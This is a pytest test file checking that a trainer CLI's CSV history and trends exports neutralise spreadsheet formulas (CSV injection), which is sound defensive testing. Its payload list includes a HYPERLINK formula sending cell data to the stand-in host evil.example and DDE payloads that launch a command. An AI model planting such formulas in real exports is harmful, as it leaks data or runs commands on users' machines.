"""CSV exports never carry a formula a spreadsheet would run (OWASP "CSV Injection").

The report: ``trainer history --csv`` exported titles such as ``=HYPERLINK(...)``,
``@SUM(...)`` and ``+1+1`` as they were. Variants of our own: a leading minus,
tab, carriage return or spaces before the ``=``, the full-width ``＝`` some
spreadsheets fold to ``=``, the DDE payload, and the trends export's test ids.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from trainer import cli
from trainer.adapters.store import SessionStore
from trainer.untrusted_text import spreadsheet_safe_cell

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "\uff1d1+1",
]
ORDINARY = ["Hip mobility", "Calf & soleus (20 min)", "1-2-3 squat", "Knee: left vs right"]


@pytest.mark.parametrize("value", FORMULAS)
def test_formula_cells_are_prefixed_with_a_quote(value: str) -> None:
    assert spreadsheet_safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ORDINARY)
def test_ordinary_cells_are_unchanged(value: str) -> None:
    assert spreadsheet_safe_cell(value) == value


def _history(data: Path) -> Path:
    with SessionStore.open(data / "history.sqlite3") as store:
        for number, title in enumerate(FORMULAS + ORDINARY):
            session = store.start_session(
                routine_id=f"id-{number}",
                digest="d",
                title=title,
                plan_size=2,
                started_at=f"2026-01-01T10:{number:02d}:00+00:00",
            )
            store.record_check(
                session, test_id=title, result="even", rating=3, at="2026-01-01T10:30:00+00:00"
            )
    return data


def _cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _is_formula(cell: str) -> bool:
    return cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@", "\uff1d"))


@pytest.mark.parametrize(
    ("flags", "column"), [(["--csv"], "routine_title"), (["--csv", "--trends"], "test_id")]
)
def test_history_csv_exports_carry_no_formula(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], flags: list[str], column: str
) -> None:
    data = _history(tmp_path)
    assert cli.main(["history", "--data-dir", str(data), "--limit", "50", *flags]) == 0
    rows = _cells(capsys.readouterr().out)
    exported = [row[column] for row in rows]
    assert len(exported) == len(FORMULAS) + len(ORDINARY)
    assert not [cell for cell in exported if _is_formula(cell)]
    assert set(ORDINARY) <= set(exported)  # nothing else changed
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in exported
    numbers = [row.get("rating") or row.get("plan_size") for row in rows]
    assert set(numbers) <= {"2", "3"}  # numbers stay numbers
